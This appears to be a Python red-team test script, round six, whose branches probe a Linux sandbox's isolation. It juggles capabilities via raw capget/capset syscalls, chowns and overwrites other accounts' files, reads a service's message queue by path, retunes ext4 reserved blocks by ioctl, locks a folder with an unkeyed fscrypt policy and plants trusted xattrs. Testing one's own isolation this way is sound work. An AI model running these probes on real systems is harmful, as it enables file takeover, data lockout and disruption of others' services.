"""Sixth round of the red team: each attack prints what it got."""
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
what = sys.argv[1]


def err():
    return os.strerror(ctypes.get_errno())


def nobody_with(cap):
    """Becomes nobody for files (the file-system capabilities leave the
    effective set) and takes back capability cap alone."""
    libc.setfsuid(65534)
    head = ctypes.create_string_buffer(struct.pack("Ii", 0x20080522, 0))
    data = ctypes.create_string_buffer(24)
    libc.syscall(125, head, data)  # capget
    eff, perm, inh, eff2, perm2, inh2 = struct.unpack("6I", data.raw)
    data = ctypes.create_string_buffer(struct.pack("6I", 1 << cap, perm, inh, 0, perm2, inh2))
    print("capset", libc.syscall(126, head, data), "fsuid", libc.setfsuid(-1))


if what == "chown":  # FILE: as nobody with CAP_CHOWN alone, take another account's file
    nobody_with(0)
    try: os.chown(sys.argv[2], 65534, -1); print("chown ok")
    except OSError as e: print("chown", e.strerror)
    try:
        with open(sys.argv[2], "w") as f: f.write("mine\n")
        print("write ok")
    except OSError as e: print("write", e.strerror)
elif what == "mqpath":  # PATH: a service's queue opened for reading by a path
    rt = ctypes.CDLL("librt.so.1", use_errno=True)  # (/dev/mqueue/NAME, /proc/PID/fd/N)
    try: fd = os.open(sys.argv[2], os.O_RDONLY | os.O_NONBLOCK)
    except OSError as e: print("open", e.strerror); sys.exit(0)
    buf = ctypes.create_string_buffer(8192)
    n = rt.mq_timedreceive(fd, buf, 8192, None, None)
    print("receive", buf.raw[:n] if n >= 0 else err())
    none = ctypes.create_string_buffer(struct.pack("QiI", 0, 0, 1) + bytes(48))  # SIGEV_NONE
    print("notify", "ok" if rt.mq_notify(fd, none) == 0 else err())
elif what == "own-mqueue":  # NAME: a queue the session makes new is its own
    rt = ctypes.CDLL("librt.so.1", use_errno=True)
    q = rt.mq_open(sys.argv[2].encode(), os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o600, None)
    buf = ctypes.create_string_buffer(8192)
    sent = rt.mq_send(q, b"mine", 4, 0)
    n = rt.mq_receive(q, buf, 8192, None)
    none = ctypes.create_string_buffer(struct.pack("QiI", 0, 0, 1) + bytes(48))
    print("own-mqueue", sent, buf.raw[:n], rt.mq_notify(q, none))
elif what == "tune":  # MOUNT: ext4's superblock retuned through its folder, opened for reading
    import fcntl
    get, tune = 0x80E8662D, 0x40E8662E  # EXT4_IOC_GET_TUNE_SB_PARAM, EXT4_IOC_SET_TUNE_SB_PARAM
    fd = os.open(sys.argv[2], os.O_RDONLY | os.O_DIRECTORY)
    params = bytearray(232)
    try: fcntl.ioctl(fd, get, params)
    except OSError as e: print("get", e.strerror); sys.exit(0)
    print("reserved before", struct.unpack_from("<Q", params, 24)[0])
    struct.pack_into("<I", params, 0, 0x20)  # EXT4_TUNE_FL_RESERVED_BLOCKS
    struct.pack_into("<Q", params, 24, int(sys.argv[3]))
    try: fcntl.ioctl(fd, tune, bytes(params)); print("tune ok")
    except OSError as e: print("tune", e.strerror)
elif what == "encrypt":  # DIR: an empty folder given an fscrypt policy whose key nobody has
    import fcntl
    fd = os.open(sys.argv[2], os.O_RDONLY | os.O_DIRECTORY)
    policy = bytes([0, 1, 4, 3]) + b"escortr6"  # v1, AES-256-XTS, AES-256-CTS, pad 32
    try: fcntl.ioctl(fd, 0x800C6613, policy); print("encrypt ok")  # FS_IOC_SET_ENCRYPTION_POLICY
    except OSError as e: print("encrypt", e.strerror)
elif what == "reach":  # FILE: as nobody with CAP_DAC_READ_SEARCH, into a private folder
    nobody_with(2)
    try:
        with open(sys.argv[2], "a") as f: f.write("mine\n")
        print("write ok")
    except OSError as e: print("write", e.strerror)
elif what == "trusted":  # FILE: as nobody with CAP_SYS_ADMIN alone, a trusted.* attribute
    nobody_with(21)
    try: os.setxattr(sys.argv[2], "trusted.escort-red6", b"planted"); print("xattr ok")
    except OSError as e: print("xattr", e.strerror)
